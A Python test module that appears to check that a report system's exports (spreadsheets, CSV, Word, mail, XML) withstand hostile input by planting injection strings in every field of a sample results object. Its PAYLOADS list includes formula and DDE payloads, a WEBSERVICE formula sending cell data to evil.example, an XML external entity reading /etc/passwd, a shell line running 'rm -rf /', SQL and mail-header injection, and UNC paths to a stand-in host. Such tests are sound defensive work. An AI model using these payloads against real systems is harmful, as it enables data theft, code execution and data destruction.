"""Hostile texts for everything that leaves the house, beside those of the HTML report."""

from __future__ import annotations

import dataclasses
from collections.abc import Sequence

import msgspec

from store.findings import Entry
from store.judgements import CheckCard, Evidence, Judgement, NormCitation
from store.results import Results
from store.vocabulary import FindingState, Outcome
from tests.reports import answered, builders
from tests.reports.test_hostile import PAYLOADS as PAGE_PAYLOADS

PAYLOADS = {
    **PAGE_PAYLOADS,
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-blank": "  =1+1",
    "formula-array": "{=1+1}",
    "dde": '=DDE("cmd";"/C calc";"x")',
    "web-service": '=WEBSERVICE("http://evil.example/"&A1)',
    "csv-quote": '"a","b"\r\nx,y;z',
    "jinja-docx": "{%p if 1 %}{{ 门户 }}{%tr endfor %}{_{ 7*7 }_}",
    "ooxml": '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:t>',
    "entity-bomb": '<!DOCTYPE x [<!ENTITY a "aaaa">]>&a;&a;',
    "external-entity": '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    "bell": "a\ab\fc\vd",
    "mail-header": "x\r\nBcc: all@example.com\r\n\r\nbody",
    "apprise": "mailto://a:b@evil.example tgram://x/y {{app_id}}",
    "shell": "$(id) `id` ; rm -rf / #",
    "sql": "' OR 1=1 -- %_!\\",
    "unc": "\\\\evil.example\\share\\x",
    "excel-link": "external:\\\\evil.example\\x!A1",
    "header-codes": "&L&G&P&\"Arial,Bold\"",
}  # fmt: skip


#: The payloads in nights of a few, since a workbook and three letters take a while to make.
NIGHTS = tuple(
    tuple(list(PAYLOADS.values())[start : start + 8]) for start in range(0, len(PAYLOADS), 8)
)


def poisoned(texts: Sequence[str]) -> Results:
    """A night with a finding for each text, in every place a portal or a person can fill.

    What the night has only once (the portal's name, the plan, an office) is all of them together.
    """
    all_of_them = "".join(text[:40] for text in texts)
    base = builders.results()
    fails = [_fail(number, text) for number, text in enumerate(texts)]
    clause = dataclasses.replace(base.plan.clauses[4], title=all_of_them, text=all_of_them)
    clauses = (*base.plan.clauses[:4], clause, *base.plan.clauses[5:])
    states = list(FindingState)
    return dataclasses.replace(
        base,
        run=dataclasses.replace(base.run, portal=all_of_them, start_url=all_of_them),
        plan=dataclasses.replace(base.plan, title=all_of_them, issuer=all_of_them, clauses=clauses),
        judgements=tuple(fails),
        findings=builders.numbered(fails),
        cards=tuple(_card(card, all_of_them) for card in base.cards),
        offices={builders.FINANCE: all_of_them},
        ledger=tuple(
            _entry(number, fail, states[number % len(states)], text)
            for number, (fail, text) in enumerate(zip(fails, texts, strict=True), start=1)
        ),
        code_version=all_of_them,
    )


def _fail(number: int, text: str) -> Judgement:
    evidence = Evidence(
        kind="quote", url=text, quote=text, locator=text, captured_at=builders.NIGHT, status=200,
        digest=builders.digest("x"), warc="run.warc.gz", offset=1, length=2, record_id=text,
    )  # fmt: skip
    subject = f"{number}{text}".encode("utf-8", "replace").decode()
    return builders.judge("budget.published-in-time", Outcome.FAIL, text, evidence,
                          subject=subject, title=text)  # fmt: skip


def _entry(number: int, fail: Judgement, state: FindingState, text: str) -> Entry:
    given = answered.answer(f"甘文旅-2018-{number:04d}", text, person=text, attachment=text)
    return answered.entry(
        number, fail, state, answers=(given,), unverified=text, reason=text,
        owners=(builders.FINANCE,),
    )  # fmt: skip


def _card(card: CheckCard, text: str) -> CheckCard:
    norm = NormCitation("x", text, text, text, "V1")
    return msgspec.structs.replace(card, remedy=text, expected=text, norms=(norm,))
